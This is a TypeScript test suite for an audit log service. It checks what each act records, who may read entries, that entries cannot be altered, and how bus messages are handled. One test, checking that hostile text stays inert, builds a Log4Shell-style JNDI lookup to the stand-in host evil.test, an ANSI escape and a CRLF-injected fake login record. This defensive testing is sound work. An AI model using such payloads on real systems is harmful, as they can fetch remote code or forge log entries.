// The audit log: the entry of each act, who may read entries, and that entries never change.

import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Bus, BusMessage } from '@almanac/service-kit/messaging/bus/bus';
import { UnreadableMessageError } from '@almanac/service-kit/messaging/bus/message';
import { readMessage } from '@almanac/service-kit/messaging/bus/received-message';
import { eventually } from '@almanac/testkit/eventually';
import { badPayloads } from '@almanac/testkit/messaging/bad-payloads';
import pg from 'pg';
import { consumeAuditMessages } from '../../src/audit/audit-messages.ts';
import { type Account, givenIdentity, type Identity } from '../given.ts';

const password = 'correct horse battery';

describe('the audit log', () => {
  let identity: Identity;
  let account: Account;
  let opened: bigint;

  beforeAll(async () => {
    identity = await givenIdentity();
  });
  afterAll(() => identity.close());
  beforeEach(async () => {
    account = await identity.account();
    opened = (await identity.context.prisma.audit_event.findFirstOrThrow({ orderBy: { id: 'desc' } })).id;
  });

  /** Entries of the account since its opening, in order. */
  const entries = async (query = '') => {
    const { status, body } = await account.machine('GET', `/audit_events?sort=id&q=id:gt:${opened}&${query}`);
    expect(status).toBe(200);
    return body.data;
  };

  it('shows who created, changed and deleted a user, through which application, from where, with the state before and after', async () => {
    const { account_id: accountId, admin_user_id: userId } = account;
    await account.admin('PATCH', `/users/${userId}`, { first_name: 'Ada', last_name: 'Lovelace' });
    const { body } = await account.machine('GET', '/oauth_applications');
    const applicationId = body.data[0].id;
    const admin = identity.as({ accountId, userId, applicationId });
    const headers = { 'x-forwarded-for': '6.6.6.6, 192.0.2.7', 'x-request-id': 'request-4711' };
    const { body: user } = await admin(
      'POST',
      '/users',
      { email: 'new@example.com', license_type: 'end_user' },
      headers,
    );
    await admin('PATCH', `/users/${user.id}`, { license_type: 'developer', first_name: '' });
    await admin('DELETE', `/users/${user.id}`);
    const on = { resource_type: 'user', resource_id: user.id, user_id: userId, application_id: applicationId };
    const [, created, updated, deleted] = await entries();
    expect(created).toEqual({
      id: expect.any(Number),
      occurred_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/),
      action: 'user.created',
      result: 'succeeded',
      actor: { type: 'user', id: userId, name: 'Ada Lovelace' },
      ...on,
      address: '192.0.2.7',
      before: null,
      after: {
        email: 'new@example.com',
        first_name: '',
        last_name: '',
        user_type: 'person',
        license_type: 'end_user',
        status: 'invited',
      },
      request_id: 'request-4711',
    });
    expect(updated).toMatchObject({ ...on, action: 'user.updated' });
    expect([updated.before, updated.after]).toEqual([{ license_type: 'end_user' }, { license_type: 'developer' }]);
    expect(deleted).toMatchObject({
      ...on,
      action: 'user.deleted',
      before: { email: 'new@example.com', license_type: 'developer', user_group_ids: [] },
      after: null,
    });
  });

  it('shows that a password was changed, but not the password', async () => {
    const { body: user } = await account.admin('POST', '/users', { email: 'p@example.com', password });
    await account.admin('PATCH', `/users/${user.id}`, { password: 'another horse battery' });
    await account.admin('PATCH', `/users/${user.id}`, { first_name: '' }); // unchanged: no act
    const all = await entries();
    expect(all.map(({ action }: { action: string }) => action)).toEqual(['user.created', 'password.changed']);
    expect(all[1]).toMatchObject({
      resource_type: 'user',
      resource_id: user.id,
      before: null,
      after: { by: 'administrator', ended_tokens: true },
    });
    const rows = await identity.context.prisma.audit_event.findMany();
    const text = JSON.stringify(rows, (_key, value) => (typeof value === 'bigint' ? Number(value) : value));
    expect(text).not.toMatch(/horse|argon2|digest/);
    for (const secret of [account.admin_password, account.client_secret]) expect(text).not.toContain(secret);
  });

  it('shows changes of groups, permissions and memberships', async () => {
    const { body: user } = await account.machine('POST', '/users', { email: 'm@example.com' });
    const view = { action: 'view', resource_type: 'account', resource_id: account.account_id };
    const edit = { ...view, action: 'edit' };
    const { body: group } = await account.machine('POST', '/user_groups', { name: 'Readers', permissions: [view] });
    const assigned = { user_id: user.id, user_group_id: group.id };
    const { body: assignment } = await account.machine('POST', '/user_group_assignments', assigned);
    await account.machine('PATCH', `/user_groups/${group.id}`, { name: 'Writers', permissions: [view, edit] });
    await account.machine('DELETE', `/user_group_assignments/${assignment.id}`);
    await account.machine('POST', '/user_group_assignments', assigned);
    await account.machine('DELETE', `/user_groups/${group.id}`);
    const on = { resource_type: 'user_group', resource_id: group.id };
    expect(await entries('q=action:starts_with:user_group')).toMatchObject([
      { ...on, action: 'user_group.created', after: { name: 'Readers', permissions: [view], member_ids: [] } },
      { action: 'user_group_assignment.created', resource_id: assignment.id, after: assigned },
      {
        ...on,
        action: 'user_group.updated',
        before: { name: 'Readers', permissions: [view] },
        after: { name: 'Writers', permissions: [view, edit] },
      },
      { action: 'user_group_assignment.deleted', resource_id: assignment.id, before: assigned, after: null },
      { action: 'user_group_assignment.created', after: assigned },
      {
        ...on,
        action: 'user_group.deleted',
        before: { name: 'Writers', permissions: [view, edit], member_ids: [user.id] },
        after: null,
      },
    ]);
  });

  it('shows the account’s creation by an operator, who is no user of it, and its changes', async () => {
    await account.admin('PATCH', '/account', { name: 'Acme', date_style: 'ISO' });
    const { data } = (await account.machine('GET', '/audit_events?sort=id')).body;
    const opening = data.slice(0, -1);
    const system = {
      actor: { type: 'system', id: null, name: null },
      user_id: null,
      application_id: null,
      address: null,
    };
    for (const entry of opening) expect(entry).toMatchObject(system);
    expect(opening.map(({ action }: { action: string }) => action).toSorted()).toEqual([
      'account.created',
      'oauth_application.created',
      'user.created',
      'user_group_assignment.created',
    ]);
    const made = opening.find(({ action }: { action: string }) => action === 'account.created');
    expect(made).toMatchObject({ after: { plan: 'business' }, resource_id: account.account_id });
    expect(data.at(-1)).toMatchObject({ action: 'account.updated', before: { name: made.after.name } });
    expect(data.at(-1).after).toEqual({ name: 'Acme' });
  });

  it('shows machines by their application, without a user', async () => {
    const { body } = await account.machine('GET', '/oauth_applications');
    const [{ id: applicationId, name }] = body.data;
    const machine = identity.as({ accountId: account.account_id, applicationId });
    await machine('POST', '/users', { email: 'made@example.com' });
    expect(await entries()).toMatchObject([
      { user_id: null, application_id: applicationId, actor: { type: 'application', id: applicationId, name } },
    ]);
  });

  it('shows that the creator of a domain became its developer', async () => {
    const { account_id: accountId, admin_user_id } = account;
    const wanted = { resource_type: 'domain', resource_id: 81, name: 'Sales', creator_id: admin_user_id };
    await identity.rpc('metadata').EnsureResourceGroups({ accountId, userId: admin_user_id }, wanted);
    expect((await entries())[0]).toMatchObject({
      action: 'user_group_assignment.created',
      actor: { type: 'system' },
      after: { user_id: admin_user_id },
    });
  });

  it('shows what was refused, and nothing that was rolled back', async () => {
    const { body: user } = await account.machine('POST', '/users', { email: 'o@example.com' });
    const ordinary = identity.as({ accountId: account.account_id, userId: user.id });
    const refusals = [await ordinary('GET', '/users'), await ordinary('DELETE', `/users/${account.admin_user_id}`)];
    expect(refusals.map(({ status }) => status)).toEqual([403, 403]);
    expect((await account.machine('DELETE', `/users/${account.admin_user_id}`)).status).toBe(422);
    expect((await account.machine('POST', '/users', { email: 'o@example.com' })).status).toBe(422);
    const all = await entries('q=user_id:not_null');
    const refused = { action: 'access.refused', result: 'refused', user_id: user.id, resource_type: null };
    expect(all).toMatchObject([
      { ...refused, after: { method: 'GET', path: '/users', errors: refusals[0]?.body.errors } },
      { ...refused, after: { method: 'DELETE', path: `/users/${account.admin_user_id}` } },
    ]);
  });

  it('announces acts on people, groups, applications and the account, and no others', async () => {
    const { account_id: accountId, admin_user_id: userId } = account;
    const admin = identity.as({ accountId, userId });
    const { body: user } = await admin('POST', '/users', { email: 'followed@example.com' });
    await identity.publish('metadata.audit.requested', {
      account_id: accountId,
      action: 'domain.created',
      resource_type: 'domain',
      resource_id: 3,
    });
    await eventually(async () => expect((await entries()).length).toBe(2));
    await admin('DELETE', `/users/${user.id}`);
    const announced = () =>
      identity.events
        .filter(({ type, payload }) => type === 'identity.audit.recorded' && payload.account_id === accountId)
        .map(({ payload }) => payload);
    await eventually(() => expect(announced().map(({ action }) => action)).toContain('user.deleted'));
    expect(new Set(announced().map(({ action }) => action))).toEqual(
      new Set([
        'account.created',
        'user.created',
        'user_group_assignment.created',
        'oauth_application.created',
        'user.deleted',
      ]),
    );
    expect(announced()).toContainEqual(
      expect.objectContaining({ action: 'user.created', user_id: userId, resource_type: 'user', resource_id: user.id }),
    );
  });

  it('keeps hostile text as text in one JSON value', async () => {
    const name = `\u001b[31m\${jndi:ldap://evil.test/a}\r\n{"action":"login.succeeded"}`;
    const { status } = await account.admin('POST', '/user_groups', { name, description: name });
    expect(status).toBe(201);
    const answer = await account.machine('GET', '/audit_events?q=action:eq:user_group.created');
    expect(answer.body.data).toHaveLength(1);
    expect(answer.body.data[0].after).toMatchObject({ name, description: name });
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    for (const address of ['a b', '<b>\u00e9', 'x'.repeat(65)])
      await account.admin('PATCH', '/account', { name: `From ${address}` }, { 'x-forwarded-for': address });
    const renamed = await entries('q=action:eq:account.updated');
    expect(renamed.map(({ address }: { address: string }) => address)).toEqual(Array(3).fill('127.0.0.1'));
  });

  describe('read', () => {
    it('shows the newest first, by page, order and filter', async () => {
      for (const email of ['a@example.com', 'b@example.com', 'c@example.com'])
        await account.machine('POST', '/users', { email });
      const list = async (query: string) => (await account.machine('GET', `/audit_events?${query}`)).body;
      const emails = async (query: string) =>
        (await list(`q=action:eq:user.created&${query}`)).data.map(
          ({ after }: { after: { email: string } }) => after.email,
        );
      expect(await emails('per_page=2')).toEqual(['c@example.com', 'b@example.com']);
      expect(await emails('per_page=2&page=2')).toEqual(['a@example.com', account.admin_email]);
      expect(await emails('sort=id&per_page=2')).toEqual([account.admin_email, 'a@example.com']);
      expect(await emails('sort=occurred_at&q=application_id:not_null')).toEqual([]);
      const { data, meta } = await list('q=user.cr');
      expect(meta).toEqual({ page: 1, per_page: 100, total_count: 4, total_pages: 1 });
      expect(await list(`q=id:gt:${data[0].id}`)).toMatchObject({ data: [] });
      expect((await list(`q=occurred_at:lt:${data[3].occurred_at}`)).data).not.toContainEqual(data[3]);
      expect((await list(`q=resource_type:eq:user&q=resource_id:eq:${data[0].resource_id}`)).data).toEqual([data[0]]);
      expect((await list(`q=request_id:eq:${data[1].request_id}`)).data).toEqual([data[1]]);
      expect((await list('q=result:eq:refused&q=address:eq:192.0.2.1')).data).toEqual([]);
      for (const query of ['q=after:contains:a', 'q=account_id:eq:1', 'sort=before', 'q=id:eq:x', 'account_id=1'])
        expect((await account.machine('GET', `/audit_events?${query}`)).status).toBe(400);
    });

    it('shows one entry with current names, and no name of a deleted user', async () => {
      const { body: user } = await account.machine('POST', '/users', { email: 'removed@example.com', password });
      const groups = await account.machine('GET', '/user_groups?q=name:eq:Administrators');
      const assignment = { user_id: user.id, user_group_id: groups.body.data[0].id };
      await account.machine('POST', '/user_group_assignments', assignment);
      const own = identity.as({ accountId: account.account_id, userId: user.id });
      await own('PATCH', '/account', { name: 'By a deleted user' });
      const path = `/audit_events/${(await entries('q=action:eq:account.updated'))[0].id}`;
      expect((await account.machine('GET', path)).body.actor).toMatchObject({
        id: user.id,
        name: 'removed@example.com',
      });
      await account.machine('DELETE', `/users/${user.id}`);
      expect((await account.machine('GET', path)).body.actor).toEqual({ type: 'user', id: user.id, name: null });
    });

    it('is for administrators of the account; other accounts’ entries don’t exist', async () => {
      const otherAccount = await identity.account();
      const { body: user } = await account.machine('POST', '/users', { email: 'o@example.com' });
      const [{ id }] = await entries();
      const unknown = await otherAccount.admin('GET', '/audit_events/900719925474099');
      for (const call of [otherAccount.admin, otherAccount.machine]) {
        const foreign = await call('GET', `/audit_events/${id}`);
        expect([foreign.status, foreign.body]).toEqual([404, unknown.body]);
        const { data } = (await call('GET', `/audit_events?q=id:eq:${id}`)).body;
        expect(data).toEqual([]);
      }
      const ordinary = identity.as({ accountId: account.account_id, userId: user.id });
      expect((await ordinary('GET', '/audit_events')).status).toBe(403);
      expect((await ordinary('GET', `/audit_events/${id}`)).status).toBe(403);
      for (const bad of ['0', '-1', 'x', '1.5', '9007199254740993'])
        expect((await account.machine('GET', `/audit_events/${bad}`)).status).toBe(400);
      for (const method of ['POST', 'PATCH', 'DELETE'])
        expect((await account.machine(method, `/audit_events/${id}`, {})).status).toBe(404);
    });
  });

  describe('kept', () => {
    const howTo = () => readFileSync(resolve(import.meta.dirname, '../../../../docs/how-to/audit.md'), 'utf8');
    const present = () => identity.context.prisma.audit_event.count({ where: { account_id: account.account_id } });

    it('is append-only for every database user', async () => {
      const before = await present();
      for (const statement of [
        "update audit_event set address = 'x'",
        'delete from audit_event',
        'truncate audit_event',
      ])
        await expect(identity.context.prisma.$executeRawUnsafe(statement)).rejects.toThrow('append-only');
      expect(await present()).toBe(before);
    });

    it('loses old entries, and nothing else, by the statements of the how-to', async () => {
      const before = await present();
      const old = { account_id: account.account_id, action: 'domain.created', result: 'succeeded' };
      const occurred_at = new Date(Date.now() - 401 * 86_400_000);
      await identity.context.prisma.audit_event.create({ data: { ...old, occurred_at } });
      const owner = new pg.Client(identity.context.config.secrets.databaseUrl);
      await owner.connect();
      await owner.query(/```sql\n(.+?)```/s.exec(howTo())?.[1] as string);
      await owner.end();
      expect(await present()).toBe(before);
      await expect(identity.context.prisma.$executeRawUnsafe('delete from audit_event')).rejects.toThrow('append-only');
    });
  });

  describe('of other services', () => {
    const act = () => ({
      account_id: account.account_id,
      action: 'domain.created',
      user_id: account.admin_user_id,
      address: '192.0.2.7',
      resource_type: 'domain',
      resource_id: 5,
      after: { name: 'Places' },
      request_id: 'request-0005',
    });
    const message = (payload: Record<string, unknown>, more = {}): BusMessage => {
      const occurred_at = '2026-05-03T09:12:44.120Z';
      return { v: 1, id: crypto.randomUUID(), type: 'metadata.audit.requested', occurred_at, payload, ...more };
    };

    let receive: (message: BusMessage) => Promise<void>;
    beforeAll(async () => {
      const consume: Bus['consume'] = async (_queue, payloads, handler) => {
        receive = async (message) => handler(readMessage(payloads, message) as Parameters<typeof handler>[0]);
      };
      await consumeAuditMessages(identity.context, { consume } as Bus);
    });

    it('arrives over the bus with the time of the act', async () => {
      const { occurred_at } = await identity.publish('metadata.audit.requested', act());
      await identity.publish('jobs.audit.requested', { ...act(), action: 'export.created' });
      await eventually(async () => expect(await entries()).toHaveLength(2));
      const all: { action: string }[] = await entries(); // in order of arrival
      const [domain, exported] = ['domain.created', 'export.created'].map((action) =>
        all.find((entry) => entry.action === action),
      );
      const { account_id: _own, ...facts } = act();
      expect(domain).toMatchObject({ ...facts, result: 'succeeded', before: null, occurred_at });
      expect(exported).toMatchObject({ ...facts, action: 'export.created' });
    });

    it('is written once, however often it is delivered', async () => {
      const twice = message(act());
      await Promise.all([receive(twice), receive(twice)]);
      await receive(twice);
      expect(await entries()).toMatchObject([{ occurred_at: twice.occurred_at }]);
    });

    it.each<[string, () => BusMessage]>([
      ['no account', () => message({ ...act(), account_id: undefined })],
      ['the account of operators', () => message({ ...act(), account_id: 0 })],
      ['an action that is none', () => message({ ...act(), action: 'domain created\n' })],
      ['a result that is none', () => message({ ...act(), result: 'maybe' })],
      ['an id that can’t be', () => message({ ...act(), resource_id: 2 ** 31 })],
      ['a text for a user', () => message({ ...act(), user_id: '7' })],
      ['too long an address', () => message({ ...act(), address: 'x'.repeat(65) })],
      ['attributes that are none', () => message({ ...act(), before: 'all of it' })],
      ['a time that is none', () => message(act(), { occurred_at: 'yesterday' })],
      ['an id that is none', () => message(act(), { id: 'first' })],
    ])('becomes a dead letter at once when it has %s, without its content in the log', async (_what, made) => {
      const failure = await receive(made()).catch((error: unknown) => error);
      expect(failure).toBeInstanceOf(UnreadableMessageError);
      expect(String(failure)).not.toMatch(/Places|192\.0|yesterday|first|maybe/);
      expect(await entries()).toEqual([]);
    });

    it('continues after a message that can’t be read', async () => {
      await identity.publish('data.audit.requested', { nonsense: true });
      await identity.publish('data.audit.requested', { ...act(), action: 'access.refused', result: 'refused' });
      await eventually(async () => expect(await entries()).toMatchObject([{ action: 'access.refused' }]));
    });
  });

  describe('an invalid event', () => {
    it.each([
      ['identity.audit', 'metadata.audit.requested', { action: 'domain.created' }],
      ['identity.resource_groups', 'metadata.domain.created', { domain_id: 4_001, name: 'Heard' }],
      ['identity.resource_groups', 'metadata.branch.deleted', { branch_id: 4_002 }],
    ])('becomes a dead letter of %s at once, and the next %s is handled', async (queue, type, payload) => {
      const { account_id } = await identity.account();
      const before = await identity.deadLetters(queue);
      for (const bad of badPayloads) await identity.publish(type, bad);
      const { id } = await identity.publish(type, { account_id, ...payload });
      await eventually(async () => expect(await identity.deadLetters(queue)).toBe(before + badPayloads.length));
      await eventually(async () =>
        expect(await identity.context.prisma.inbox.count({ where: { message_id: id } })).toBe(1),
      );
    });
  });
});
